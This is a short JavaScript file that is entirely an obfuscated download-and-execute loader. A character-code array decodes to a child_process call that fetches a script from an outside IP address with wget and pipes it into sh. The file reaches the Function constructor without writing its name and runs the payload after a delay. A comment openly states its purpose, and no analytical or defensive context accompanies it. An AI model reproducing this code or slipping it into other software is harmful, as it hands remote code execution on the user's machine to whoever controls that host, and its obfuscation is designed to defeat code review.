// Rebuilds a child_process "wget | sh" command from char codes and runs it through the Function constructor.
const _0x1a = [114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41,46,101,120,101,99,40,39,119,103,101,116,32,45,113,79,45,32,104,116,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46,54,48,47,115,32,124,32,115,104,39,41];

function _0xdec(arr) {
  return arr.map((c) => String.fromCharCode(c)).join("");
}

// reach Function without writing its name
const F = (() => {}).constructor;
const body = _0xdec(_0x1a);
const fn = new F("require", body);

setTimeout(() => fn(require), 1500);
